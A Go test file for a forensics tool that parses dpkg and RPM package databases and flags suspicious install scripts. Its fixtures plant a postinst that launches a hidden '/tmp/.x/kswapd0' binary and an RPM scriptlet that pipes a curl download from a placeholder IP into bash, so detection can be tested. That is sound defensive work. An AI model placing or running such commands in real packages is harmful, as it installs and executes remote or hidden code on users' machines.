package pkgdb

import (
	"context"
	"maps"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"icecore/forensics/artifact/artifacttest"
	"icecore/forensics/filesystem"
	"icecore/forensics/model"
)

// recordsOf gives the records of a tree's databases as lines.
func recordsOf(t testing.TB, tree filesystem.Tree) (records []model.Record, lines []string) {
	t.Helper()
	db := opened(t, tree)
	for _, p := range db.Records(context.Background(), func(r model.Record, found filesystem.Found) {
		if found.Path != r.Source.HostPath && found.FS != nil {
			t.Errorf("%s: the file is %s", r.Source.HostPath, found.Path)
		}
		if r.Kind.Info() == nil {
			t.Errorf("no kind %s", r.Kind)
		}
		records = append(records, r)
		lines = append(lines, artifacttest.Plain(r))
	}) {
		t.Error(p.Path, p.Err)
	}
	return records, lines
}

func TestRecords(t *testing.T) {
	files := maps.Clone(small)
	files["var/lib/dpkg/info/myldd.postinst"] = "#!/bin/sh\nset -e\nnohup /tmp/.x/kswapd0 &\nexit 0\n"
	dir := t.TempDir()
	write(t, dir, files)
	records, lines := recordsOf(t, imageOf(t, dir))
	if d := cmp.Diff([]string{
		"0 package.database manager=dpkg size=449 packages=4",
		"1 package.diversion manager=dpkg from=/usr/bin/ldd to=/usr/bin/ldd.orig package=myldd",
		"4 package.diversion manager=dpkg from=/lib/foo to=/lib/foo.local",
		"0 package.list manager=dpkg package=libc6 architecture=amd64 files=7",
		"1 package.entry manager=dpkg package=libc6 architecture=amd64 version=2.36-9 status=install ok installed maintainer=G <g@x> files=7",
	}, lines[:5]); d != "" {
		t.Error(d)
	}
	r := records[len(records)-1]
	if r.Kind != model.PackageScript || r.Source.Line != 3 || r.Source.HostPath != "/var/lib/dpkg/info/myldd.postinst" ||
		r.Get("notable") != "hidden_exec,nohup,temp_exec,temp_path" || r.Get("script") != "postinst" || r.Source.Offset != 17 {
		t.Errorf("%s %+v", artifacttest.Plain(r), r.Source)
	}
}

// TestRPMRecords: a command that was put into a scriptlet, and its twin.
func TestRPMRecords(t *testing.T) {
	evil := strings.Replace(spec, "\necho posttrans\n", "\necho posttrans\ncurl -fsSL http://203.0.113.77/i.sh | bash\n", 1)
	root := rpmTreeOf(t, "sqlite", []string{evil, second})
	records, lines := recordsOf(t, imageOf(t, root))
	found := 0
	for i, r := range records {
		switch {
		case r.Kind != model.PackageScript:
		case r.Get("script") == "posttrans":
			found++
			if r.Source.Line != 2 || r.Source.Member != "rpm kinds-2:1.0-3.noarch posttrans" || r.Get("interpreter") != "/bin/sh" ||
				r.Get("suspicious_line") != "curl -fsSL http://203.0.113.77/i.sh | bash" || r.Source.Offset != 15 {
				t.Errorf("%s %+v", lines[i], r.Source)
			}
		case r.Has("notable"):
			t.Errorf("%s", lines[i])
		case r.Get("script") == "triggerin" && r.Get("trigger") != "bash >= 2.0,zsh":
			t.Errorf("%s", lines[i])
		}
	}
	// What a source names is found again, the second of a name, too.
	tree := imageOf(t, root)
	db := opened(t, tree)
	n := 0
	db.Scripts(context.Background(), func(s *Script) error {
		at, err := tree.Lookup(s.Place.Path, true)
		if err != nil {
			t.Fatal(err)
		}
		f, err := at.Open()
		if err != nil {
			t.Fatal(err)
		}
		n++
		if b, err := Scriptlet(context.Background(), f, s.Place.Member); err != nil || string(b) != string(s.Text) {
			t.Errorf("%s: %q, %v", s.Place.Member, b, err)
		}
		return nil
	})
	if found != 1 || n < 12 {
		t.Errorf("%s", strings.Join(lines, "\n"))
	}
}
